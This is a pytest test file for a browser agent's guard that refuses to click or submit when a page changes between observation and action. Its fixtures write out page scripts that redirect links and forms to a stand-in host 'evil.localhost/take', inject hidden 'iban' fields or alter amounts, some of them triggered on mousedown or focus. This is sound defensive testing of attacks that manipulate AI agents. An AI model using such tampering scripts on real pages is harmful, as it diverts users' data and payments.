"""What is done is what was judged: a page that changes between the look and the act is noticed, and nothing is done."""

import asyncio

import pytest

from tests.environments.browser.test_observer import plain_page
from tests.fakes.page_site import BrowserWorld, ref_of
from wm_pipeline.domain.action import Action, FieldValue
from wm_pipeline.domain.secrets import Redactor
from wm_pipeline.domain.state import State
from wm_pipeline.domain.vocabulary import ActionKind, StopReason
from wm_pipeline.environments.browser.observe import EpisodeView, state_of
from wm_pipeline.environments.browser.observer import PageObserver
from wm_pipeline.environments.browser.session import SessionSettings, Step
from wm_pipeline.environments.browser.settle import SettleSettings, walk_options

pytestmark = pytest.mark.browser


SETTINGS = SessionSettings(step_limit_ms=4000)


def meanwhile(world: BrowserWorld, script: str) -> None:
    """What a script of the page does between the look and the act."""
    world.run(world.session.evaluate(f"() => {{ {script} }}"))


def click(state: State, name: str) -> Action:
    return Action(ActionKind.CLICK, ref_of(state, name))


def posts(world: BrowserWorld) -> list[str]:
    return [request for request in world.site.requests if request.startswith("POST")]


def approve(state: State, row: int) -> Action:
    return Action(ActionKind.CLICK, [one.element_ref for one in state.elements if one.name == "Approve"][row])


def assert_nothing_was_done(step: Step, world: BrowserWorld, problem: str) -> None:
    assert (step.failure, step.problem) == (StopReason.PAGE_CHANGED, problem)
    assert posts(world) == []
    assert step.state.prior_steps == ()


@pytest.mark.parametrize("script", ["draw(rows)", "draw([...rows].reverse())", "draw(['Desk', ...rows])"])
def test_a_row_that_is_drawn_anew_is_found_by_what_stands_in_it(world: BrowserWorld, script: str) -> None:
    state = world.open("judged/redrawn.html")
    meanwhile(world, script)

    step = world.act(approve(state, 1))

    assert (step.failure, step.problem) == (None, None)
    assert step.delta.notices == ("approved Chair",)


def test_fields_and_forms_that_are_drawn_anew_are_found(world: BrowserWorld) -> None:
    state = world.open("judged/redrawn.html")
    meanwhile(world, "draw(rows)")
    filled = world.act(Action(ActionKind.FILL, ref_of(state, "Note"), "longer"))
    state = world.open("judged/redrawn.html")
    meanwhile(world, "draw(rows)")
    sent = world.act(Action(ActionKind.SUBMIT, "f1", fields=(FieldValue("note", "new"),)))
    state = world.open("judged/redrawn.html")
    meanwhile(world, "draw(rows)")
    clicked = world.act(click(state, "Keep"))

    assert filled.delta.dom_added == ('textbox "Note" = longer',)
    assert [event.url for event in sent.delta.network] == ["http://mail.localhost/note"]
    assert posts(world) == ["POST mail.localhost /note note=short"]
    assert clicked.failure is None


@pytest.mark.parametrize(
    ("script", "problem"),
    [
        ("draw(['Lamp'])", "the target is not in the page any more, or not the only one of its kind"),
        ("draw(['Chair', 'Chair'])", "the target is not in the page any more, or not the only one of its kind"),
        ("draw(rows, 'Reject')", "the target is not in the page any more, or not the only one of its kind"),
    ],
    ids=["gone", "ambiguous", "other words"],
)
def test_a_row_that_is_gone_or_stands_twice_is_not_guessed(world: BrowserWorld, script: str, problem: str) -> None:
    state = world.open("judged/redrawn.html")
    meanwhile(world, script)

    step = world.act(approve(state, 1))

    assert_nothing_was_done(step, world, problem)
    assert step.delta.notices == ()


@pytest.mark.parametrize(
    ("name", "script", "problem"),
    [
        ("Close", "document.querySelector('td').textContent = 'Cecil'", "the target stands in another row now"),
        ("Close", "document.querySelector('button').textContent = 'Delete'", "the words of the target have changed"),
        ("Show", "document.links[0].target = '_blank'", "the target now opens in another way"),
        ("Show", "document.links[0].download = 'x'", "the target now opens in another way"),
        (
            "Show",
            "document.links[0].href = 'http://evil.localhost/take?user=dana'",
            "the target now leads to http://evil.localhost/take?user=dana",
        ),
        ("Show", "document.links[0].removeAttribute('href')", "the target now leads to nothing"),
        ("Show", "document.links[0].setAttribute('role', 'button')", "the target is another kind of thing now"),
    ],
)
def test_a_target_that_means_something_else_is_not_clicked(
    world: BrowserWorld, name: str, script: str, problem: str
) -> None:
    state = world.open("judged/recycled.html")
    meanwhile(world, script)

    step = world.act(click(state, name))

    assert_nothing_was_done(step, world, problem)
    assert step.state.title == "Recycled"


FORM_CHANGES = {
    "address": ("order.action = 'http://evil.localhost/take'", "the form now goes to http://evil.localhost/take"),
    "formaction": (
        "send.setAttribute('formaction', 'http://evil.localhost/take')",
        "the form now goes to http://evil.localhost/take",
    ),
    "method": ("order.method = 'get'", "the form now is sent by get"),
    "frame": ("order.target = '_blank'", "the form now opens in _blank"),
    "hidden": (
        "order.insertAdjacentHTML('beforeend', '<input type=hidden name=iban value=XX00>')",
        "the form now also sends iban",
    ),
    "tied": (
        "document.body.insertAdjacentHTML('beforeend', '<input type=hidden name=iban value=XX00 form=order>')",
        "the form now also sends iban",
    ),
    "twice": (
        "order.insertAdjacentHTML('beforeend', '<input type=hidden name=amount value=7>')",
        "the form now also sends amount",
    ),
    "value": ("order.elements.text.value = 'XX00 stranger'", "the form now sends another value as text"),
    "hidden value": ("order.elements.account.value = '18'", "the form now sends another value as account"),
    "renamed": ("order.elements.amount.name = 'count'", "the form now also sends count"),
    "ticked": ("order.elements.express.checked = true", "the form now also sends express"),
    "chosen": ("order.elements.store.value = 's'", "the form now sends another value as store"),
    "disabled": ("order.elements.account.disabled = true", "the form does not send account any more"),
}


@pytest.mark.parametrize("how", FORM_CHANGES)
@pytest.mark.parametrize("kind", [ActionKind.CLICK, ActionKind.SUBMIT, ActionKind.PRESS])
def test_a_form_that_is_another_one_is_not_sent(world: BrowserWorld, how: str, kind: ActionKind) -> None:
    script, problem = FORM_CHANGES[how]
    state = world.open("judged/form.html")
    meanwhile(world, script)

    step = world.act(
        {
            ActionKind.CLICK: click(state, "Order now"),
            ActionKind.SUBMIT: Action(ActionKind.SUBMIT, "f1"),
            ActionKind.PRESS: Action(ActionKind.PRESS, ref_of(state, "Text"), "Enter"),
        }[kind]
    )

    assert_nothing_was_done(step, world, problem)


def test_what_an_agent_types_itself_is_no_change_and_a_token_is_none(world: BrowserWorld) -> None:
    world.open("judged/form.html")
    meanwhile(world, "order.elements.csrf_token.value = 'zyxwvuts2'")

    step = world.act(Action(ActionKind.SUBMIT, "f1", fields=(FieldValue("text", "ink"), FieldValue("express", "yes"))))

    assert (step.failure, step.problem) == (None, None)
    assert posts(world) == [
        "POST mail.localhost /order csrf_token=zyxwvuts2&account=17&text=ink&amount=5&express=yes&store=n"
    ]


def test_a_value_that_a_script_changes_while_an_agent_types_is_noticed(world: BrowserWorld) -> None:
    world.open("judged/form.html")
    meanwhile(world, "order.elements.text.oninput = () => { order.elements.amount.value = 500; }")

    step = world.act(Action(ActionKind.SUBMIT, "f1", fields=(FieldValue("text", "ink"),)))

    assert_nothing_was_done(step, world, "the form now sends another value as amount")


@pytest.mark.parametrize(
    ("event", "change", "problem"),
    [
        (
            "pointerdown",
            "order.action = 'http://evil.localhost/take'",
            "the form now goes to http://evil.localhost/take",
        ),
        ("mousedown", "order.elements.text.value = 'stranger'", "the form now sends another value as text"),
        (
            "focusin",
            "send.setAttribute('formaction', 'http://evil.localhost/take')",
            "the form now goes to http://evil.localhost/take",
        ),
        (
            "click",
            "order.insertAdjacentHTML('beforeend', '<input type=hidden name=iban value=XX00>')",
            "the form now also sends iban",
        ),
    ],
)
def test_a_form_that_changes_under_the_mouse_is_not_sent(
    world: BrowserWorld, event: str, change: str, problem: str
) -> None:
    state = world.open("judged/form.html")
    meanwhile(world, f"order.addEventListener('{event}', () => {{ {change} }})")

    step = world.act(click(state, "Order now"))

    assert (step.failure, step.problem) == (StopReason.PAGE_CHANGED, problem)
    assert posts(world) == []


def test_a_link_that_changes_under_the_mouse_is_not_opened(world: BrowserWorld) -> None:
    state = world.open("judged/form.html")
    meanwhile(world, "link.onmousedown = () => { link.href = 'http://evil.localhost/take'; }")

    step = world.act(click(state, "Terms"))

    assert (step.failure, step.problem) == (
        StopReason.PAGE_CHANGED,
        "the target now leads to http://evil.localhost/take",
    )
    assert step.state.title == "Order"


@pytest.mark.parametrize(
    "action",
    [
        Action(ActionKind.SUBMIT, "f1"),
        Action(ActionKind.CLICK, "e1"),
        Action(ActionKind.FILL, "e2", "x"),
        Action(ActionKind.RUN_SCRIPT, value="document.forms[0].submit()"),
        Action(ActionKind.BACK),
    ],
    ids=lambda action: action.kind.value,
)
def test_on_a_page_that_was_replaced_nothing_is_done_and_the_new_one_is_the_present_state(
    world: BrowserWorld, action: Action
) -> None:
    world.open("judged/replaced.html")

    async def replace_it() -> None:
        page = world.session._present_tab().page
        async with page.expect_event("domcontentloaded"):
            await page.evaluate("() => { location = '/judged/replaced_by.html'; }")

    world.run(replace_it())
    step = world.act(action)

    assert_nothing_was_done(step, world, "the page was replaced by another")
    assert step.state.title == "Second thoughts"
    following = world.act(click(step.state, "Pay"))
    assert (following.failure, posts(world)) == (None, ["POST mail.localhost /pay text=99000"])


def test_pages_of_others_are_checked_without_acting(world: BrowserWorld) -> None:
    async def ask() -> list[str | None]:
        async with plain_page() as page:
            await page.goto("http://mail.localhost/judged/form.html")
            observer = await PageObserver.attach(page)
            walk = await observer.look(walk_options(SettleSettings()))
            state = state_of(walk, EpisodeView("Order paper"), cookies=(), network=(), redactor=Redactor(b"key"))
            send = Action(ActionKind.SUBMIT, "f1")
            answers = [await observer.check(one, state) for one in (send, click(state, "Order now"))]
            await page.evaluate("order.elements.account.value = '18'")
            answers += [await observer.check(one, state) for one in (send, click(state, "Terms"))]
            await page.goto("http://mail.localhost/second.html")
            answers += [await observer.check(one, state) for one in (click(state, "Terms"), Action(ActionKind.BACK))]
            return answers

    answers = asyncio.run(ask())

    replaced = "the page was replaced by another"
    assert answers == [None, None, "the form now sends another value as account", None, replaced, replaced]
